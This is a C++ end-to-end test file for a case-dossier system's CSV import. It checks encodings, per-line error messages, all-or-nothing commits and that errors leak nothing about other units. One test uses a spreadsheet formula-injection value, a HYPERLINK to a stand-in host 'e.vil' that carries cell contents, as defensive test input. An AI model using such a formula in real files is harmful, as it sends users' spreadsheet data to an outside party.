// SPDX-FileCopyrightText: 2026 The Casetrail authors
// SPDX-License-Identifier: MulanPSL-2.0

// Black-box: bulk import through the CLI and the server process: a dry run names every problem with its
// line, a real run imports all or nothing, GB18030 files with Chinese titles, re-importing changes nothing.

#include <catch2/catch.hpp>

#include "tests/support/server_process.hpp"

using namespace casetrail::test;
using nlohmann::json;

namespace {

CommandResult import(const ServerProcess& s, const std::string& file, std::vector<std::string> extra = {}) {
    std::vector<std::string> args = {"--url", s.url(), "import", file, "--by", "liu.yang"};
    args.insert(args.end(), extra.begin(), extra.end());
    return run_cli(args);
}

std::string count(const ServerProcess& s, const std::string& sql) { return s.db.query_value(sql); }

// An import of these rows through the API as `login`, and the problems its check names.
json problems_of(ServerProcess& s, const std::string& login, const json& rows) {
    const auto auth = "Authorization: Bearer " + s.token_for(login);
    auto r = http_send(s.port, "POST", "/api/v1/imports", json{{"source", "probe.csv"}}.dump(), {auth});
    REQUIRE(r.status == 201);
    const auto id = std::to_string(json::parse(r.body)["id"].get<long long>());
    r = http_send(s.port, "POST", "/api/v1/imports/" + id + "/rows", json{{"rows", rows}}.dump(), {auth});
    REQUIRE(r.status == 200);
    r = http_send(s.port, "GET", "/api/v1/imports/" + id + "/problems", "", {auth});
    REQUIRE(r.status == 200);
    return json::parse(r.body)["problems"];
}

// The problems of one line as "field: message", with `name` (a login, an EPC) written as <name>.
std::vector<std::string> said(const json& problems, int line, const std::string& name) {
    std::vector<std::string> out;
    for (const auto& p : problems) {
        if (p["line"] != line) continue;
        auto text = p["field"].get<std::string>() + ": " + p["message"].get<std::string>();
        for (auto at = text.find(name); !name.empty() && at != std::string::npos; at = text.find(name))
            text.replace(at, name.size(), "<name>");
        out.push_back(text);
    }
    return out;
}

const std::string kGood =
    "case_number,title,case_type,unit,handler,home,volume,epc\n"
    "2026-IM-0001,\"盗窃案, 王某某\",theft,CID-T1,wang.li,HQ-R1-C1-S1,1,E2801160000000000000D001\n"
    "2026-IM-0001,\"盗窃案, 王某某\",theft,CID-T1,wang.li,HQ-R1-C1-S1,2,e2801160000000000000d002\n"
    "2026-IM-0002,诈骗案 李某,fraud,CID-T1,,,,\n"
    "\n"
    "2026-IM-0003,\"Quoted \"\"title\"\"\",,CID-T1,chen.jing,HQ-R1-C2-S1,,E2801160000000000000D003\n";

}  // namespace

TEST_CASE("a clean file imports all its dossiers, volumes and tags, and importing it again changes nothing",
          "[import][e2e]") {
    ServerProcess s;
    s.dir.write("good.csv", kGood);
    auto r = import(s, s.dir.file("good.csv"), {"--dry-run"});
    INFO(r.output);
    CHECK(r.status == 0);
    CHECK_THAT(r.output, Catch::Contains("no problems in 4 lines (utf-8); dry run: nothing was imported"));
    CHECK(count(s, "SELECT count(*) FROM dossiers WHERE case_number LIKE '2026-IM-%'") == "0");

    r = import(s, s.dir.file("good.csv"));
    CHECK(r.status == 0);
    CHECK_THAT(r.output, Catch::Contains("3 new dossiers, 4 new volumes, 3 tags bound"));
    CHECK(count(s,
                "SELECT title || '|' || case_type || '|' || status FROM dossiers WHERE case_number = '2026-IM-0001'") ==
          "盗窃案, 王某某|theft|registered");
    CHECK(count(s, "SELECT title FROM dossiers WHERE case_number = '2026-IM-0003'") == "Quoted \"title\"");
    CHECK(
        count(
            s,
            "SELECT string_agg(tb.epc, ',' ORDER BY v.volume_no) FROM tag_bindings tb JOIN volumes v ON v.id = tb.volume_id "
            "JOIN dossiers d ON d.id = v.dossier_id WHERE d.case_number = '2026-IM-0001'") ==
        "E2801160000000000000D001,E2801160000000000000D002");
    CHECK(
        count(
            s,
            "SELECT r.login FROM dossiers d JOIN staff r ON r.id = d.registered_by WHERE case_number = '2026-IM-0002'") ==
        "liu.yang");

    const auto before =
        count(s,
              "SELECT (SELECT count(*) FROM dossiers) || '/' || (SELECT count(*) FROM volumes) || '/' || "
              "(SELECT count(*) FROM tag_bindings)");
    r = import(s, s.dir.file("good.csv"));
    CHECK(r.status == 0);
    CHECK_THAT(r.output, Catch::Contains("0 new dossiers, 0 new volumes, 0 tags bound"));
    CHECK(count(s,
                "SELECT (SELECT count(*) FROM dossiers) || '/' || (SELECT count(*) FROM volumes) || '/' || "
                "(SELECT count(*) FROM tag_bindings)") == before);
    // Found by its imported tag, through the API.
    CHECK(s.get("/api/v1/dossiers/E2801160000000000000D002").body["dossier"]["case_number"] == "2026-IM-0001");
}

TEST_CASE("a GB18030 file with Chinese titles imports, found by itself or when told", "[import][e2e]") {
    ServerProcess s;
    // 盗窃案 and 诈骗案 in GB18030, written byte by byte (the encoding, not UTF-8).
    const std::string daoqie = "\xB5\xC1\xC7\xD4\xB0\xB8";   // 盗窃案
    const std::string zhapian = "\xD5\xA9\xC6\xAD\xB0\xB8";  // 诈骗案
    s.dir.write("gb.csv", "case_number,title,unit\n2026-GB-0001," + daoqie + " 1,CID-T1\n2026-GB-0002," + zhapian +
                              " 2,CID-T1\n");
    auto r = import(s, s.dir.file("gb.csv"));
    INFO(r.output);
    CHECK(r.status == 0);
    CHECK_THAT(r.output, Catch::Contains("(gb18030)") && Catch::Contains("2 new dossiers"));
    CHECK(count(s, "SELECT title FROM dossiers WHERE case_number = '2026-GB-0001'") == "盗窃案 1");
    CHECK(count(s, "SELECT title FROM dossiers WHERE case_number = '2026-GB-0002'") == "诈骗案 2");
    // Searchable in Chinese.
    const auto found = s.get("/api/v1/dossiers?q=%E8%AF%88%E9%AA%97%E6%A1%88&case_number=GB").body["dossiers"];
    REQUIRE(found.size() == 1);
    CHECK(found[0]["case_number"] == "2026-GB-0002");
    // Told it is UTF-8, the same file is refused line by line: bad encoding.
    r = import(s, s.dir.file("gb.csv"), {"--dry-run", "--encoding", "utf-8"});
    CHECK(r.status == 2);
    CHECK_THAT(r.output,
               Catch::Contains("line 2: is not valid UTF-8") && Catch::Contains("line 3: is not valid UTF-8"));
    // A UTF-8 file with a BOM, as spreadsheets save it.
    s.dir.write("bom.csv",
                "\xEF\xBB\xBF"
                "case_number,title,unit\n2026-BOM-0001,带BOM的文件,CID-T1\n");
    CHECK(import(s, s.dir.file("bom.csv")).status == 0);
    CHECK(count(s, "SELECT title FROM dossiers WHERE case_number = '2026-BOM-0001'") == "带BOM的文件");
}

TEST_CASE("every problem is named with its line, and a file with any problem imports nothing", "[import][e2e]") {
    ServerProcess s;
    s.dir.write("bad.csv",
                "case_number,title,unit,handler,home,volume,epc\n"
                "2026-BAD-0001,ok,CID-T1,wang.li,HQ-R1-C1-S1,1,E2801160000000000000B001\n"  // 2: fine
                "2026-BAD-0002,t,NOPE,nobody,NO-SHELF,x,ZZZ\n"                              // 3: five problems
                "2026-CR-0005,another title,CID-T1,,,,\n"                                   // 4: case number taken
                "2026-BAD-0003,t,CID-T1,,,1,E28011600000000000000007\n"                     // 5: tag of 2026-CR-0007
                "2026-BAD-0001,ok,CID-T1,wang.li,HQ-R1-C1-S1,1,\n"                          // 6: volume 1 again
                "2026-BAD-0004,t,CID-T1,,,1,E2801160000000000000B001\n"                     // 7: tag on line 2
                ",,CID-T1,,,,\n"                                                            // 8: missing fields
                "2026-BAD-0005,t,CID-T1\n"                                                  // 9: too few fields
                "2026-BAD-0006,\"unterminated,CID-T1,,,,\n"                                 // 10
                "2026-BAD-0007,\xff\xfe,CID-T1,,,,\n");  // 11: not UTF-8 (nor GB18030 decodable?)
    auto r = import(s, s.dir.file("bad.csv"), {"--dry-run", "--encoding", "utf-8"});
    INFO(r.output);
    CHECK(r.status == 2);
    for (const char* expected :
         {"line 3: volume: \"x\" is not a number", "line 3: unit: no unit has the code \"NOPE\"",
          "line 3: handler: no active staff member of your units has the login \"nobody\"",
          "line 3: home: no location has the code \"NO-SHELF\"", "line 3: epc: \"ZZZ\" is not an EPC",
          "line 4: case_number: 2026-CR-0005 is registered already with another title",
          "line 5: epc: tag E28011600000000000000007 is bound to 2026-CR-0007 volume 1",
          "line 6: volume: volume 1 of 2026-BAD-0001 is on line 2 already",
          "line 7: epc: tag E2801160000000000000B001 is on line 2 already", "line 8: case_number: is missing",
          "line 8: title: is missing", "line 9: has 3 fields; the header has 7", "line 10: has an unterminated quote",
          "line 11: is not valid UTF-8"}) {
        CHECK_THAT(r.output, Catch::Contains(expected));
    }
    CHECK_THAT(r.output, !Catch::Contains("line 2:"));
    // For real: refused before anything is sent, nothing imported.
    r = import(s, s.dir.file("bad.csv"), {"--encoding", "utf-8"});
    CHECK(r.status == 2);
    CHECK_THAT(r.output, Catch::Contains("nothing was imported"));
    CHECK(count(s, "SELECT count(*) FROM dossiers WHERE case_number LIKE '2026-BAD-%'") == "0");

    // Only database problems: the server refuses the commit whole (all or nothing).
    s.dir.write("late.csv",
                "case_number,title,unit,epc\n2026-LATE-0001,fine,CID-T1,E2801160000000000000C001\n"
                "2026-LATE-0002,clash,CID-T1,E28011600000000000000009\n");
    r = import(s, s.dir.file("late.csv"));
    CHECK(r.status == 2);
    CHECK_THAT(r.output,
               Catch::Contains("line 3: epc: tag E28011600000000000000009 is bound to 2026-CR-0009 volume 1") &&
                   Catch::Contains("1 problem in the import; nothing was imported"));
    CHECK(count(s, "SELECT count(*) FROM dossiers WHERE case_number LIKE '2026-LATE-%'") == "0");
    // Missing columns are named at line 1.
    s.dir.write("cols.csv", "case_number,titel\nA,B\n");
    r = import(s, s.dir.file("cols.csv"), {"--dry-run"});
    CHECK_THAT(r.output, Catch::Contains("line 1: titel: is not a known column") &&
                             Catch::Contains("line 1: title: the required column is missing") &&
                             Catch::Contains("line 1: unit: the required column is missing"));
}

TEST_CASE("import problems tell a person nothing of another unit's dossiers, handlers or tags",
          "[import][e2e][security]") {
    ServerProcess s;
    // Another bureau, with its own case handler and two tagged dossiers; liu.yang (clerk of CID-S1) sees none.
    REQUIRE(s.post("/api/v1/units", {{"code", "ECO"}, {"name", "Economic Crimes"}, {"kind", "bureau"}}).status == 201);
    REQUIRE(s.post("/api/v1/staff",
                   {{"login", "eco.handler"}, {"name", "Eco Handler"}, {"unit", "ECO"}, {"roles", {"case_handler"}}})
                .status == 201);
    for (const auto& [cn, epc] :
         {std::pair{"2026-EC-0001", "E2B0000000000000000000E1"}, {"2026-EC-0002", "E2B0000000000000000000E2"}}) {
        REQUIRE(s.post("/api/v1/dossiers", {{"case_number", cn},
                                            {"title", "挪用公款 Embezzlement"},
                                            {"unit", "ECO"},
                                            {"handler", "eco.handler"},
                                            {"home", "HQ-R1-C1-S1"}})
                    .status == 201);
        REQUIRE(s.post("/api/v1/dossiers/" + std::string(cn) + "/volumes/1/tag", {{"epc", epc}}).status == 200);
    }

    // Another unit's handler reads exactly as a login nobody has (before, only the unknown one was a problem).
    auto p = problems_of(
        s, "liu.yang",
        {{{"line", 2}, {"case_number", "2026-IM-0201"}, {"title", "t"}, {"unit", "CID-T1"}, {"handler", "eco.handler"}},
         {{"line", 3},
          {"case_number", "2026-IM-0202"},
          {"title", "t"},
          {"unit", "CID-T1"},
          {"handler", "no.such.login"}},
         {{"line", 4}, {"case_number", "2026-IM-0203"}, {"title", "t"}, {"unit", "CID-T1"}, {"handler", "wang.li"}}});
    INFO(p.dump(1));
    CHECK(said(p, 2, "eco.handler") ==
          std::vector<std::string>{"handler: no active staff member of your units has the login \"<name>\""});
    CHECK(said(p, 2, "eco.handler") == said(p, 3, "no.such.login"));
    CHECK(said(p, 4, "").empty());

    // Guessing another unit's dossier: the row that names its true title, type, handler, home and tag gets
    // the very problems of a row that guesses them all wrong (before, the true one lost its case-number
    // and tag problems, which confirmed every guess).
    const json truth = {{{"line", 2},
                         {"case_number", "2026-EC-0001"},
                         {"title", "挪用公款 Embezzlement"},
                         {"unit", "ECO"},
                         {"handler", "eco.handler"},
                         {"home", "HQ-R1-C1-S1"},
                         {"volume", 1},
                         {"epc", "E2B0000000000000000000E1"}}};
    const json guess = {{{"line", 2},
                         {"case_number", "2026-EC-0001"},
                         {"title", "A guess"},
                         {"case_type", "fraud"},
                         {"unit", "ECO"},
                         {"handler", "eco.handler"},
                         {"home", "HQ-R1-C2-S1"},
                         {"volume", 1},
                         {"epc", "E2B0000000000000000000E2"}}};
    const auto on_truth = problems_of(s, "liu.yang", truth);
    const auto on_guess = problems_of(s, "liu.yang", guess);
    INFO(on_truth.dump(1) << on_guess.dump(1));
    CHECK(said(on_truth, 2, "E2B0000000000000000000E1") == said(on_guess, 2, "E2B0000000000000000000E2"));
    CHECK(said(on_truth, 2, "E2B0000000000000000000E1") ==
          std::vector<std::string>{"case_number: 2026-EC-0001 is registered already, in a unit outside yours",
                                   "epc: tag <name> is bound to a dossier outside your units",
                                   "handler: no active staff member of your units has the login \"eco.handler\"",
                                   "unit: \"ECO\" is not one of the units you may import into"});
    // Nothing of theirs is named: not the other dossier, not a volume, not a title.
    CHECK(on_guess.dump().find("2026-EC-0002") == std::string::npos);
    CHECK(on_guess.dump().find("volume") == std::string::npos);
    CHECK(on_truth.dump().find("挪用") == std::string::npos);
    // An admin sees both units: the true row is no problem at all.
    CHECK(problems_of(s, "sun.hao", truth).empty());
}

TEST_CASE("an import holds case numbers to the alphabet of registering", "[import][e2e][security]") {
    ServerProcess s;
    const std::string formula = "=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")";
    const auto p =
        problems_of(s, "liu.yang",
                    {{{"line", 2}, {"case_number", formula}, {"title", "t"}, {"unit", "CID-T1"}},
                     {{"line", 3}, {"case_number", "E2801160000000000000ABCD"}, {"title", "t"}, {"unit", "CID-T1"}},
                     {{"line", 4}, {"case_number", "2026-IM-0301"}, {"title", "t"}, {"unit", "CID-T1"}},
                     {{"line", 5}, {"case_number", " "}, {"title", "t"}, {"unit", "CID-T1"}}});
    INFO(p.dump(1));
    CHECK(said(p, 2, "") == std::vector<std::string>{"case_number: \"" + formula +
                                                     "\" must begin with a letter, a digit or an opening bracket (a "
                                                     "spreadsheet would run it as a formula)"});
    CHECK(said(p, 3, "") == std::vector<std::string>{"case_number: \"E2801160000000000000ABCD\" reads as an EPC (hex "
                                                     "digits in groups of four): it would hide that tag's dossier"});
    CHECK(said(p, 4, "").empty());
    CHECK(said(p, 5, "") == std::vector<std::string>{"case_number: is missing"});
    // The same through the CLI, and nothing is imported.
    s.dir.write("formula.csv", "case_number,title,unit\n\"=HYPERLINK(\"\"http://e.vil\"\",\"\"x\"\")\",t,CID-T1\n");
    const auto r = import(s, s.dir.file("formula.csv"));
    INFO(r.output);
    CHECK(r.status == 2);
    CHECK_THAT(r.output, Catch::Contains("line 2: case_number:") && Catch::Contains("would run it as a formula"));
    CHECK(count(s, "SELECT count(*) FROM dossiers WHERE case_number LIKE '=%'") == "0");
}
